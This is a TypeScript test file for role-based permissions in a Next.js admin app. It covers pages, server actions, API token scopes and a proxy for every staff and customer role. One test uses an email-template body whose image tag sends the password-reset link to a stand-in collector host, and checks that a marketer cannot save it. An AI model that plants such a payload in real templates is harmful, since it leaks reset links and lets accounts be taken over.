// Long for a test: one table per surface (pages, actions, API, proxy) over every role, so the matrix reads as one.
import { eq } from "drizzle-orm";
import { encode } from "next-auth/jwt";
import { NextRequest } from "next/server";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import DashboardPage from "@/app/(admin)/admin/page";
import ApiTokensPage from "@/app/(admin)/admin/api-tokens/page";
import { createApiTokenAction } from "@/app/(admin)/admin/api-tokens/actions";
import { createContentAccessAction } from "@/app/(admin)/admin/content-access/actions";
import DevRunsPage from "@/app/(admin)/admin/dev/runs/page";
import NoAccessPage from "@/app/(admin)/admin/no-access/page";
import PaymentsPage from "@/app/(admin)/admin/payments/page";
import { refundPaymentAction } from "@/app/(admin)/admin/payments/actions";
import ReferralsPage from "@/app/(admin)/admin/referrals/page";
import NewReferralProgramPage from "@/app/(admin)/admin/referrals/programs/new/page";
import ScenariosPage from "@/app/(admin)/admin/scenarios/page";
import NewScenarioPage from "@/app/(admin)/admin/scenarios/new/page";
import { countSegmentAction } from "@/app/(admin)/admin/segments/actions";
import SubscriptionTypesPage from "@/app/(admin)/admin/subscription-types/page";
import NewSubscriptionTypePage from "@/app/(admin)/admin/subscription-types/new/page";
import { stopSubscriptionAction } from "@/app/(admin)/admin/subscriptions/actions";
import UsersPage from "@/app/(admin)/admin/users/page";
import NewUserPage from "@/app/(admin)/admin/users/new/page";
import { changeUserRoleAction, createUserAction } from "@/app/(admin)/admin/users/actions";
import {
  deleteEmailTemplateAction,
  saveEmailTemplateAction,
} from "@/app/(admin)/admin/email-templates/actions";
import { findEmailTemplateByCode } from "@/lib/email/find-email-template";
import { saveEmailTemplate } from "@/lib/email/save-email-template";
import { GET as devClockRoute } from "@/app/api/dev/clock/route";
import { GET as familyTypesRoute } from "@/app/api/v1/family/types/route";
import { GET as segmentsRoute } from "@/app/api/v1/segments/route";
import { GET as subscriptionTypesRoute } from "@/app/api/v1/subscription-types/route";
import { POST as createUserRoute } from "@/app/api/v1/users/route";
import { completeGoalForUserAction } from "@/lib/actions/goals/complete-goal-for-user";
import type { ActionState } from "@/lib/actions/action-state";
import { createApiToken } from "@/lib/api-tokens/create-api-token";
import { authOptions } from "@/lib/auth/auth-options";
import { USER_ROLES } from "@/lib/auth/permissions";
import { generateToken, hashToken, tokenPrefix } from "@/lib/auth/tokens";
import {
  apiTokens,
  contentAccess,
  goalCompletions,
  payments,
  subscriptions,
  users,
  type User,
  type UserRole,
} from "@/lib/db/schema";
import { saveGoal } from "@/lib/goals/save-goal";
import { changeUserRole } from "@/lib/users/change-user-role";
import { proxy } from "@/proxy";
import { call, type Handler } from "../../support/call-route";
import { openTestDatabase } from "../../support/test-database";
import { buyPaid, createUser, seedCatalog, uniqueEmail } from "../services/fixtures";

/*
 * Every role against representative pages, server actions and API routes of each area: what the permission table
 * promises (lib/auth/permissions.ts) is what the server does. The tables below spell the expected roles out instead
 * of asking can(), so a change to the table has to change them too.
 */

const browser = vi.hoisted(() => ({ session: null as unknown }));
vi.mock("next-auth", async (importOriginal) => ({
  ...(await importOriginal<typeof import("next-auth")>()),
  getServerSession: async () => browser.session,
}));
// Outside a request: no headers to read, no cache to revalidate.
vi.mock("next/headers", () => ({ headers: async () => new Headers() }));
vi.mock("next/cache", () => ({ revalidatePath: () => undefined }));

type Role = UserRole;
const STAFF: Role[] = ["owner", "admin", "marketer", "support", "viewer"];

let database: Awaited<ReturnType<typeof openTestDatabase>>;
const db = () => database.db;
const people = {} as Record<Role, User>;

beforeAll(async () => {
  database = await openTestDatabase();
  await seedCatalog(db());
  for (const role of USER_ROLES) {
    people[role] = await createUser(db(), { email: uniqueEmail(`role-${role}`), role });
  }
  await saveGoal(db(), { code: "roles_goal", name: "Roles goal" });
});
beforeEach(() => {
  browser.session = null;
});
afterAll(() => database.close());

function signInAs(role: Role) {
  const person = people[role];
  browser.session = {
    user: { id: person.id, role: person.role, sessionVersion: person.sessionVersion },
    expires: "",
  };
}

function form(values: Record<string, string | number | string[]>): FormData {
  const data = new FormData();
  for (const [key, value] of Object.entries(values)) {
    for (const item of Array.isArray(value) ? value : [value]) data.append(key, String(item));
  }
  return data;
}

/** What a page did: rendered, or redirected (where to is what a person sees). */
async function openPage(render: () => Promise<unknown>): Promise<string> {
  try {
    await render();
    return "shown";
  } catch (error) {
    const digest = (error as { digest?: unknown }).digest;
    if (typeof digest !== "string" || !digest.startsWith("NEXT_REDIRECT")) throw error;
    const target = digest.split(";")[2] ?? "";
    if (target.startsWith("/admin/no-access")) return "no access";
    if (target === "/account?denied=admin") return "their account";
    return `redirect ${target}`;
  }
}

const noSearch = { searchParams: Promise.resolve({}) };

/** The text a server page's element tree carries in its props (without rendering components it names). */
function textOf(node: unknown): string {
  if (typeof node === "string" || typeof node === "number") return String(node);
  if (Array.isArray(node)) return node.map(textOf).join(" ");
  if (node && typeof node === "object" && "props" in node) {
    return Object.values((node as { props: Record<string, unknown> }).props)
      .map(textOf)
      .join(" ");
  }
  return "";
}

const PAGES: { path: string; render: () => Promise<unknown>; roles: Role[] }[] = [
  { path: "/admin", render: () => DashboardPage(noSearch), roles: STAFF },
  { path: "/admin/users", render: () => UsersPage(noSearch), roles: STAFF },
  { path: "/admin/users/new", render: () => NewUserPage(), roles: ["owner", "admin", "support"] },
  {
    path: "/admin/payments",
    render: () => PaymentsPage(noSearch),
    roles: ["owner", "admin", "support", "viewer"],
  },
  { path: "/admin/referrals", render: () => ReferralsPage(noSearch), roles: STAFF },
  {
    path: "/admin/referrals/programs/new",
    render: () => NewReferralProgramPage(),
    roles: ["owner", "admin", "marketer"],
  },
  { path: "/admin/scenarios", render: () => ScenariosPage(noSearch), roles: STAFF },
  {
    path: "/admin/scenarios/new",
    render: () => NewScenarioPage(),
    roles: ["owner", "admin", "marketer"],
  },
  {
    path: "/admin/subscription-types",
    render: () => SubscriptionTypesPage(noSearch),
    roles: STAFF,
  },
  {
    path: "/admin/subscription-types/new",
    render: () => NewSubscriptionTypePage(),
    roles: ["owner", "admin"],
  },
  { path: "/admin/api-tokens", render: () => ApiTokensPage(), roles: ["owner"] },
  { path: "/admin/dev/runs", render: () => DevRunsPage(noSearch), roles: ["owner", "admin"] },
];

describe("pages", () => {
  beforeAll(() => {
    // The runs page exists only with the local executor.
    vi.stubEnv("SUBFLOW_LOCAL_EXECUTOR", "1");
  });

  const cases = PAGES.flatMap((page) => USER_ROLES.map((role) => ({ ...page, role })));
  it.each(cases)("$path as $role", async ({ render, roles, role }) => {
    signInAs(role);
    const expected =
      role === "customer" ? "their account" : roles.includes(role) ? "shown" : "no access";
    expect(await openPage(render)).toBe(expected);
  });

  it("sends a signed-out visitor to sign in, and names the missing permission on the no-access page", async () => {
    expect(await openPage(() => PaymentsPage(noSearch))).toBe(
      "redirect /login?callbackUrl=%2Fadmin%2Fpayments",
    );
    signInAs("marketer");
    const refused = await PaymentsPage(noSearch).catch((error: { digest: string }) => error.digest);
    expect(refused).toContain("/admin/no-access?needs=billing.read&from=%2Fadmin%2Fpayments");
    const page = textOf(
      await NoAccessPage({
        searchParams: Promise.resolve({ needs: "billing.read", from: "/admin/payments" }),
      }),
    );
    expect(page).toContain("see payments, recurrent payments and revenue");
    expect(page).toContain("Marketer");
  });
});

interface ActionCase {
  name: string;
  roles: Role[];
  /** Calls the action with fresh data; `done` then says whether its change happened. */
  run: () => Promise<{ state: ActionState; done: () => Promise<boolean> }>;
}

const ACTIONS: ActionCase[] = [
  {
    name: "payments.refund (billing.write)",
    roles: ["owner", "admin", "support"],
    async run() {
      const customer = await createUser(db(), { email: uniqueEmail("refund") });
      const { payment } = await buyPaid(db(), customer.id, "web_month");
      const state = await refundPaymentAction(null, form({ paymentId: payment.id }));
      return {
        state,
        done: async () =>
          (await db().select().from(payments).where(eq(payments.id, payment.id)))[0]?.status ===
          "refund",
      };
    },
  },
  {
    name: "subscriptions.stop (customers.write)",
    roles: ["owner", "admin", "support"],
    async run() {
      const customer = await createUser(db(), { email: uniqueEmail("stop") });
      const { subscription } = await buyPaid(db(), customer.id, "web_month");
      const state = await stopSubscriptionAction(null, form({ subscriptionId: subscription!.id }));
      return {
        state,
        done: async () => {
          const [row] = await db()
            .select()
            .from(subscriptions)
            .where(eq(subscriptions.id, subscription!.id));
          return row!.endAt.getTime() < subscription!.endAt.getTime();
        },
      };
    },
  },
  {
    name: "users.create a customer (customers.write)",
    roles: ["owner", "admin", "support"],
    async run() {
      const email = uniqueEmail("created-customer");
      const state = await createUserAction(null, form({ email, role: "customer" })).catch(
        redirectedAsOk,
      );
      return { state, done: async () => (await findUserByEmail(email)) !== undefined };
    },
  },
  {
    name: "users.create a staff member (staff.manage)",
    roles: ["owner"],
    async run() {
      const email = uniqueEmail("created-marketer");
      const state = await createUserAction(null, form({ email, role: "marketer" })).catch(
        redirectedAsOk,
      );
      return { state, done: async () => (await findUserByEmail(email)) !== undefined };
    },
  },
  {
    name: "users.change-role (staff.manage)",
    roles: ["owner"],
    async run() {
      const target = await createUser(db(), { email: uniqueEmail("promoted") });
      const state = await changeUserRoleAction(null, form({ userId: target.id, role: "viewer" }));
      return { state, done: async () => (await findUserByEmail(target.email))?.role === "viewer" };
    },
  },
  {
    name: "api-tokens.create (staff.manage)",
    roles: ["owner"],
    async run() {
      const name = `roles ${uniqueEmail()}`;
      const state = await createApiTokenAction(null, form({ name, "scopes[]": ["users:read"] }));
      return {
        state,
        done: async () =>
          (await db().select().from(apiTokens).where(eq(apiTokens.name, name))).length === 1,
      };
    },
  },
  {
    name: "goals.complete-for-user (automation.write)",
    roles: ["owner", "admin", "marketer"],
    async run() {
      const customer = await createUser(db(), { email: uniqueEmail("goal") });
      const state = await completeGoalForUserAction(
        null,
        form({ goalCode: "roles_goal", userId: customer.id }),
      );
      return {
        state,
        done: async () =>
          (await db().select().from(goalCompletions).where(eq(goalCompletions.userId, customer.id)))
            .length === 1,
      };
    },
  },
  {
    name: "segments.count (automation.read)",
    roles: STAFF,
    async run() {
      const rules = { match: "all", rules: [{ field: "role", operator: "is", value: "viewer" }] };
      const state = await countSegmentAction(null, form({ rules: JSON.stringify(rules) }));
      // Every role has a person here, so a count that ran is at least one.
      return { state, done: async () => state?.ok === true && (state.data?.count ?? 0) >= 1 };
    },
  },
  {
    name: "content-access.create (catalog.write)",
    roles: ["owner", "admin"],
    async run() {
      const code = `roles_${Date.now().toString(36)}_${Math.floor(Math.random() * 1e6)}`;
      const state = await createContentAccessAction(null, form({ code, name: "Roles" }));
      return {
        state,
        done: async () =>
          (await db().select().from(contentAccess).where(eq(contentAccess.code, code))).length ===
          1,
      };
    },
  },
];

/** Actions that redirect on success throw Next's redirect: for this test that is success. */
function redirectedAsOk(error: unknown): ActionState {
  const digest = (error as { digest?: unknown }).digest;
  if (typeof digest === "string" && digest.startsWith("NEXT_REDIRECT")) return { ok: true };
  throw error;
}

async function findUserByEmail(email: string) {
  return (await db().select().from(users).where(eq(users.email, email)))[0];
}

describe("server actions", () => {
  const cases = ACTIONS.flatMap((action) => USER_ROLES.map((role) => ({ ...action, role })));
  it.each(cases)("$name as $role", async ({ run, roles, role }) => {
    signInAs(role);
    const { state, done } = await run();
    if (roles.includes(role)) {
      expect(state, JSON.stringify(state)).toMatchObject({ ok: true });
      expect(await done()).toBe(true);
    } else {
      expect(state).toMatchObject({
        ok: false,
        error: "forbidden",
        message:
          role === "customer" ? "Only staff can do this." : expect.stringContaining("An owner"),
      });
      expect(await done()).toBe(false);
    }
  });

  it("refuses every action to a session that ended when its role changed", async () => {
    const person = await createUser(db(), { email: uniqueEmail("demoted"), role: "support" });
    browser.session = {
      user: { id: person.id, sessionVersion: person.sessionVersion },
      expires: "",
    };
    const customer = await createUser(db(), { email: uniqueEmail("refund-later") });
    const { payment } = await buyPaid(db(), customer.id, "web_month");
    await changeUserRole(db(), { userId: person.id, role: "marketer" });
    expect(await refundPaymentAction(null, form({ paymentId: payment.id }))).toMatchObject({
      ok: false,
      error: "unauthenticated",
    });
  });

  it("refuses a role change by an owner demoted after their request passed its permission check", async () => {
    const [first, second, target] = await Promise.all(
      ["first-owner", "second-owner", "promoted"].map((label, i) =>
        createUser(db(), { email: uniqueEmail(label), role: i < 2 ? "owner" : "support" }),
      ),
    );
    // The second owner's request was checked (staff.manage) before the first owner demoted them.
    await changeUserRole(db(), { userId: second!.id, role: "support", actorUserId: first!.id });
    await expect(
      changeUserRole(db(), { userId: target!.id, role: "owner", actorUserId: second!.id }),
    ).rejects.toMatchObject({ code: "forbidden", status: 403 });
    expect((await findUserByEmail(target!.email))?.role).toBe("support");
  });

  it("keeps the secret-bearing account templates to staff who manage staff: a marketer can neither write nor delete one", async () => {
    signInAs("marketer");
    const fields = {
      code: "password_reset",
      name: "Reset",
      subject: "Reset",
      bodyHtml: '<img src="https://collector.example/?l={{password_reset.link}}">',
      bodyText: "{{password_reset.link}}",
    };
    expect(await saveEmailTemplateAction(null, form(fields))).toMatchObject({
      ok: false,
      error: "forbidden",
    });
    expect(await findEmailTemplateByCode(db(), "password_reset")).toBeNull();
    const stored = await saveEmailTemplate(db(), {
      ...fields,
      bodyHtml: "<p>{{password_reset.link}}</p>",
    });
    expect(await deleteEmailTemplateAction(null, form({ id: stored.id }))).toMatchObject({
      ok: false,
      error: "forbidden",
    });
    expect(await findEmailTemplateByCode(db(), "password_reset")).not.toBeNull();
  });

  it("keeps the last owner an owner", async () => {
    const owners = await db().select().from(users).where(eq(users.role, "owner"));
    for (const owner of owners.filter((row) => row.id !== people.owner.id)) {
      await db().update(users).set({ role: "customer" }).where(eq(users.id, owner.id));
    }
    signInAs("owner");
    expect(
      await changeUserRoleAction(null, form({ userId: people.owner.id, role: "admin" })),
    ).toMatchObject({ ok: false, error: "last_owner" });
    expect((await findUserByEmail(people.owner.email))?.role).toBe("owner");
  });
});

/** An API token with these scopes whose creator has the role (as if made before a demotion: no check on insert). */
async function tokenMadeBy(role: Role | null, scopes: string[]): Promise<string> {
  const token = generateToken("api");
  await db()
    .insert(apiTokens)
    .values({
      name: `made by ${role ?? "nobody"}`,
      scopes,
      tokenHash: hashToken(token),
      tokenPrefix: tokenPrefix(token),
      createdByUserId: role ? people[role].id : null,
    });
  return token;
}

const ROUTES: {
  scope: string;
  roles: Role[];
  send: (token: string) => ReturnType<typeof call>;
}[] = [
  {
    scope: "subscriptions:read",
    roles: STAFF,
    send: (token) =>
      call(subscriptionTypesRoute as Handler, "GET", "/subscription-types", { token }),
  },
  {
    scope: "segments",
    roles: ["owner", "admin", "marketer"],
    send: (token) => call(segmentsRoute as Handler, "GET", "/segments", { token }),
  },
  {
    scope: "family",
    roles: ["owner", "admin"],
    send: (token) => call(familyTypesRoute as Handler, "GET", "/family/types", { token }),
  },
  {
    scope: "users:write",
    roles: ["owner", "admin", "support"],
    send: (token) =>
      call(createUserRoute as Handler, "POST", "/users", {
        token,
        body: { email: uniqueEmail("api-created") },
      }),
  },
];

describe("API tokens act with at most their creator's current role", () => {
  const cases = ROUTES.flatMap((route) => USER_ROLES.map((role) => ({ ...route, role })));
  it.each(cases)("$scope made by a $role", async ({ scope, roles, role, send }) => {
    const result = await send(await tokenMadeBy(role, [scope]));
    if (roles.includes(role)) {
      expect(result.status, JSON.stringify(result.json)).toBeLessThan(300);
    } else {
      expect(result.status).toBe(403);
      expect(result.json).toMatchObject({
        error: "insufficient_scope",
        message: expect.stringContaining("withdrawn"),
      });
    }
  });

  it("keeps every scope of a token without a creator", async () => {
    const token = await tokenMadeBy(
      null,
      ROUTES.map((route) => route.scope),
    );
    for (const route of ROUTES) expect((await route.send(token)).status).toBeLessThan(300);
  });

  it("withdraws a scope when its creator is demoted, and gives it back when promoted again", async () => {
    const creator = await createUser(db(), { email: uniqueEmail("token-creator"), role: "owner" });
    const { token } = await createApiToken(db(), {
      name: "demoted creator",
      scopes: ["family", "segments"],
      createdByUserId: creator.id,
    });
    const family = () => call(familyTypesRoute as Handler, "GET", "/family/types", { token });
    const segments = () => call(segmentsRoute as Handler, "GET", "/segments", { token });
    expect((await family()).status).toBe(200);

    await changeUserRole(db(), { userId: creator.id, role: "marketer" });
    expect(await family()).toMatchObject({ status: 403, json: { error: "insufficient_scope" } });
    expect((await segments()).status).toBe(200);

    await changeUserRole(db(), { userId: creator.id, role: "admin" });
    expect((await family()).status).toBe(200);
  });

  it("refuses to create a token with a scope beyond its creator's role", async () => {
    await expect(
      createApiToken(db(), {
        name: "too much",
        scopes: ["segments", "payments:write"],
        createdByUserId: people.marketer.id,
      }),
    ).rejects.toMatchObject({ code: "scope_beyond_role", status: 403 });
    const { record } = await createApiToken(db(), {
      name: "within the role",
      scopes: ["segments"],
      createdByUserId: people.marketer.id,
    });
    expect(record.createdByUserId).toBe(people.marketer.id);
  });
});

describe("the dev clock (a staff route outside /api/v1)", () => {
  beforeAll(() => {
    vi.stubEnv("SUBFLOW_LOCAL_EXECUTOR", "1");
  });

  it.each(USER_ROLES.map((role) => ({ role })))("as $role", async ({ role }) => {
    signInAs(role);
    const response = await devClockRoute(new NextRequest("http://localhost/api/dev/clock"));
    const expected = role === "owner" || role === "admin" ? 200 : 403;
    expect(response.status).toBe(expected);
    if (expected === 403) expect(await response.json()).toMatchObject({ error: "forbidden" });
  });
});

describe("the proxy", () => {
  /** A request to /admin with the session cookie a sign-in as this role gets (through the jwt callback). */
  async function adminRequest(role: Role) {
    const token = await authOptions.callbacks!.jwt!({
      token: {} as never,
      user: { id: String(people[role].id), role, sessionVersion: 0 } as never,
      account: null,
    });
    const cookie = await encode({ token, secret: authOptions.secret! });
    return new NextRequest("http://localhost/admin/payments", {
      headers: { cookie: `next-auth.session-token=${cookie}` },
    });
  }

  it.each(USER_ROLES.map((role) => ({ role })))("lets $role in only if staff", async ({ role }) => {
    const response = await proxy(await adminRequest(role));
    if (role === "customer") {
      expect(response.headers.get("location")).toBe("http://localhost/account?denied=admin");
    } else {
      expect(response.headers.get("location")).toBeNull();
    }
  });
});
